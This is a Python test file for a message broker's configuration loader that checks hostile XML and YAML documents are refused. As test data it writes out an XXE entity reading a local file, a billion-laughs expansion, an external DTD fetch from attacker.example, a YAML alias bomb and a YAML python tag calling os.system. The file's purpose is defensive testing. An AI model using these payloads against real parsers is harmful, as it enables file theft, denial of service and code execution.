"""Hostile documents: XXE, entity expansion and YAML alias bombs are refused, not parsed."""

from __future__ import annotations

from pathlib import Path

import pytest
from relaymq.config import ConfigError, load_config, load_config_text


def test_xxe_external_entity_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    doc = tmp_path / "activemq.xml"
    doc.write_text(f"""<?xml version="1.0"?>
<!DOCTYPE broker [
  <!ENTITY leak SYSTEM "file://{secret}">
]>
<broker brokerName="&leak;"/>
""")
    with pytest.raises(ConfigError) as info:
        load_config(doc)
    message = str(info.value)
    assert "external entity" in message and "refuses XML entity declarations" in message
    assert f"{doc}:" in message
    assert "TOP-SECRET" not in message


def test_billion_laughs_is_refused() -> None:
    doc = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<broker brokerName="&lol3;"/>"""
    with pytest.raises(ConfigError, match="refuses XML entity declarations"):
        load_config_text(doc, "xml")


def test_external_parameter_entity_is_refused() -> None:
    doc = """<?xml version="1.0"?>
<!DOCTYPE broker [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<broker/>"""
    with pytest.raises(ConfigError, match="refuses XML entity declarations"):
        load_config_text(doc, "xml")


def test_yaml_alias_bomb_is_refused() -> None:
    doc = """broker:
  a: &a [{queue: {physicalName: x}}, {queue: {physicalName: x}}, {queue: {physicalName: x}}]
  b: &b [{d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}]
  c: &c [{d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}]
  e: &e [{d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}]
  f: &f [{d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}]
  g: &g [{d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}]
"""
    with pytest.raises(ConfigError, match="expands to too many elements"):
        load_config_text(doc, "yaml")


def test_yaml_python_tags_are_refused() -> None:
    doc = "broker:\n  brokerName: !!python/object/apply:os.system ['echo pwned']\n"
    with pytest.raises(ConfigError, match=r"<text>:2: the YAML tag tag:yaml.org,2002:python/object"):
        load_config_text(doc, "yaml")


def _one_line(exc: ConfigError) -> str:
    text = str(exc)
    assert "\n" not in text.strip(), text
    return text


def test_deeply_nested_xml_is_refused_with_one_line() -> None:
    depth = 200_000
    doc = ('<beans xmlns="http://www.springframework.org/schema/beans">'
           + "<a>" * depth + "</a>" * depth + "</beans>")
    with pytest.raises(ConfigError) as err:
        load_config_text(doc, "xml", filename="activemq.xml")
    text = _one_line(err.value)
    assert text.startswith("activemq.xml:1: ") and "nested more than 100 deep" in text


def test_xml_nesting_within_the_limit_is_parsed() -> None:
    from relaymq.config.xml_loader import MAX_DEPTH, parse_xml

    doc = "<r>" * MAX_DEPTH + "</r>" * MAX_DEPTH
    node = parse_xml(doc)
    levels = 1
    while node.children:
        node = node.children[0]
        levels += 1
    assert levels == MAX_DEPTH


def test_xml_with_too_many_elements_is_refused() -> None:
    doc = "<beans>" + "<bean/>" * 100_001 + "</beans>"
    with pytest.raises(ConfigError) as err:
        load_config_text(doc, "xml", filename="activemq.xml")
    assert "more than 100000 elements and attributes" in _one_line(err.value)


def test_huge_xml_file_is_refused_before_reading(tmp_path: Path) -> None:
    from relaymq.config.xml_loader import MAX_BYTES

    path = tmp_path / "activemq.xml"
    with path.open("wb") as f:
        f.write(b"<beans>")
        f.seek(MAX_BYTES + 10)  # sparse: nothing this large is written or read
        f.write(b"</beans>")
    with pytest.raises(ConfigError) as err:
        load_config(path)
    text = _one_line(err.value)
    assert str(path) in text and f"larger than {MAX_BYTES} bytes" in text
    with pytest.raises(ConfigError) as err2:
        load_config_text(b"<beans>" + b" " * MAX_BYTES + b"</beans>", "xml")
    assert "larger than" in _one_line(err2.value)
